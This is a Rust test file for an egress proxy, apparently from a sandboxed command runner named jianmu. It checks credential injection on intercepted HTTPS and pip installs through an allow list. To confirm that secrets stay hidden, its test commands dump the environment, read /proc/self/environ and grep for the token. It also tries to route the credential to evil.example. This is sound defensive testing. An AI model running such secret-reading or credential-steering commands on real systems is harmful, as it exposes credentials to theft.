//! The egress proxy from the command: a credential read from jianmu's own
//! environment set on intercepted HTTPS to a local TLS server (verified against the
//! `SSL_CERT_FILE` jianmu was given), while the command holds only a placeholder;
//! and `pip install` from a local package index through an allow list that names it.

use std::path::Path;

/// A TLS server on 127.0.0.2 (a Python child) whose certificate a CA made here signs;
/// it answers `authorized` when `Authorization` is `Bearer {expect}`, else `denied`.
struct TlsServer {
    port: u16,
    _child: std::process::Child,
}

impl Drop for TlsServer {
    fn drop(&mut self) {
        let _ = self._child.kill();
        let _ = self._child.wait();
    }
}

fn tls_server(dir: &Path, expect: &str) -> TlsServer {
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut ca = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    ca.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    ca.distinguished_name
        .push(rcgen::DnType::CommonName, "test upstream CA");
    ca.key_usages = vec![
        rcgen::KeyUsagePurpose::KeyCertSign,
        rcgen::KeyUsagePurpose::DigitalSignature,
    ];
    let ca_cert = ca.self_signed(&ca_key).unwrap();
    let key = rcgen::KeyPair::generate().unwrap();
    let leaf = rcgen::CertificateParams::new(vec!["127.0.0.2".to_owned()]).unwrap();
    let issuer = rcgen::Issuer::from_params(&ca, &ca_key);
    let cert = leaf.signed_by(&key, &issuer).unwrap();
    std::fs::write(dir.join("ca.pem"), ca_cert.pem()).unwrap();
    std::fs::write(dir.join("cert.pem"), cert.pem()).unwrap();
    std::fs::write(dir.join("key.pem"), key.serialize_pem()).unwrap();
    let script = format!(
        r#"
import http.server, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        ok = self.headers.get("Authorization") == "Bearer {expect}"
        body = b"authorized" if ok else b"denied"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
s = http.server.HTTPServer(("127.0.0.2", 0), H)
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
c.load_cert_chain("cert.pem", "key.pem")
s.socket = c.wrap_socket(s.socket, server_side=True)
print(s.server_address[1], flush=True)
s.serve_forever()
"#
    );
    let mut child = jianmu_process::std_command("python3")
        .args(["-c", &script])
        .current_dir(dir)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    TlsServer {
        port: line.trim().parse().unwrap(),
        _child: child,
    }
}

fn private_network_here() -> bool {
    let kernel = jianmu_process::Isolation::probe();
    kernel.namespaces && kernel.private_network
}

fn run(dir: &Path, config: &Path, command: &str, env: &[(&str, &str)]) -> (String, String) {
    let args = serde_json::json!({ "command": command }).to_string();
    let mut cmd = jianmu_process::std_command(env!("CARGO_BIN_EXE_jianmu"));
    cmd.args(["--config", config.to_str().unwrap(), "call", "bash", &args])
        .current_dir(dir)
        .env_remove("JIANMU_LOG");
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = cmd.output().unwrap();
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn an_intercepted_https_credential_reaches_the_upstream_and_never_the_code() {
    if !private_network_here() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let secret = format!("tok-{}-{}", std::process::id(), "x9");
    let server = tls_server(dir.path(), &secret);
    let ws = dir.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    let config = dir.path().join("jianmu.toml");
    std::fs::write(
        &config,
        format!(
            "[egress.credentials.\"127.0.0.2:{}\"]\nheader = \"Authorization\"\nvalue = \"Bearer ${{JIANMU_EGRESS_TEST}}\"\nintercept = true\n",
            server.port
        ),
    )
    .unwrap();
    let ca = dir.path().join("ca.pem");
    let env = [
        ("JIANMU_EGRESS_TEST", secret.as_str()),
        ("SSL_CERT_FILE", ca.to_str().unwrap()),
    ];
    // curl (CURL_CA_BUNDLE) and Python (SSL_CERT_FILE) trust the session's authority.
    let command = format!(
        "curl -sS -H 'Authorization: Bearer placeholder' https://127.0.0.2:{0}/; echo; \
         python3 -c \"import urllib.request as u; r = u.Request('https://127.0.0.2:{0}/', headers={{'Authorization': 'x'}}); print(u.urlopen(r).read().decode())\"; \
         env; cat /proc/self/environ; grep -rl \"tok-\"\"{1}-x9\" \"$TMPDIR\" . ; true",
        server.port,
        std::process::id()
    );
    let (out, err) = run(&ws, &config, &command, &env);
    assert!(out.starts_with("authorized\nauthorized\n"), "{out}{err}");
    assert!(!out.contains(&secret), "{out}");
    assert!(out.contains("SSL_CERT_FILE="), "{out}");
    // Inside the intercepted tunnel, a request naming another target is refused, so the
    // credential cannot be routed to another site of the same server.
    let (steered, err) = run(
        &ws,
        &config,
        &format!(
            "curl -sS --request-target https://evil.example/ https://127.0.0.2:{}/",
            server.port
        ),
        &env,
    );
    assert_eq!(
        steered.trim(),
        "jianmu proxy: inside the tunnel, send the path only (GET /path)",
        "{err}"
    );
    // Without interception the header passes as the code wrote it: not the secret.
    std::fs::write(
        &config,
        format!("[egress]\nallow = [\"127.0.0.2:{}\"]\n", server.port),
    )
    .unwrap();
    std::fs::copy(&ca, ws.join("upstream-ca.pem")).unwrap();
    let (plain, err) = run(
        &ws,
        &config,
        &format!(
            "curl -sS --cacert upstream-ca.pem https://127.0.0.2:{}/",
            server.port
        ),
        &env,
    );
    assert_eq!(plain.trim(), "denied", "{err}");
}

#[test]
fn pip_installs_from_a_local_index_the_allow_list_names() {
    if !private_network_here() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let index = dir.path().join("index");
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(index.join("simple/egress-probe")).unwrap();
    std::fs::create_dir(&ws).unwrap();
    // A wheel made by hand: one module and its metadata.
    let wheel = "egress_probe-1.0-py3-none-any.whl";
    let made = jianmu_process::std_command("python3")
        .args([
            "-c",
            &format!(
                "import zipfile\nz = zipfile.ZipFile('{wheel}', 'w')\n\
                 z.writestr('egress_probe.py', 'ANSWER = 42\\n')\n\
                 z.writestr('egress_probe-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: egress-probe\\nVersion: 1.0\\n')\n\
                 z.writestr('egress_probe-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: hand\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
                 z.writestr('egress_probe-1.0.dist-info/RECORD', '')\nz.close()\n"
            ),
        ])
        .current_dir(index.join("simple/egress-probe"))
        .status()
        .unwrap();
    assert!(made.success());
    std::fs::write(
        index.join("simple/egress-probe/index.html"),
        format!("<html><body><a href=\"{wheel}\">{wheel}</a></body></html>"),
    )
    .unwrap();
    let mut server = jianmu_process::std_command("python3")
        .args(["-u", "-m", "http.server", "0", "--bind", "127.0.0.2"])
        .current_dir(&index)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(server.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    // "Serving HTTP on 127.0.0.2 port N (http://127.0.0.2:N/) ..."
    let port: u16 = line
        .split(" port ")
        .nth(1)
        .and_then(|r| r.split_whitespace().next())
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("{line}"));
    let config = dir.path().join("jianmu.toml");
    std::fs::write(
        &config,
        format!("[egress]\nallow = [\"127.0.0.2:{port}\"]\n"),
    )
    .unwrap();
    let install = format!(
        "\"$(python3 -c 'import sys; print(sys.executable)')\" -m pip install -q --disable-pip-version-check --no-cache-dir \
         --index-url http://127.0.0.2:{port}/simple/ --trusted-host 127.0.0.2 \
         --target \"$TMPDIR/site\" egress-probe && \
         PYTHONPATH=\"$TMPDIR/site\" python3 -c 'import egress_probe; print(egress_probe.ANSWER)'"
    );
    let (out, err) = run(&ws, &config, &install, &[]);
    // Through an allow list without it, the index is refused.
    std::fs::write(&config, "[egress]\nallow = [\"pypi.org:443\"]\n").unwrap();
    let (refused, refused_err) = run(
        &ws,
        &config,
        &format!("{{ {install}; }} 2>&1; curl -sS http://127.0.0.2:{port}/simple/; true"),
        &[],
    );
    let _ = server.kill();
    let _ = server.wait();
    assert_eq!(out.trim(), "42", "{err}");
    assert!(
        refused.contains("No matching distribution found for egress-probe"),
        "{refused}{refused_err}"
    );
    assert!(
        refused.contains(&format!(
            "jianmu: 127.0.0.2:{port} was refused by this session's egress policy"
        )),
        "{refused}"
    );
}
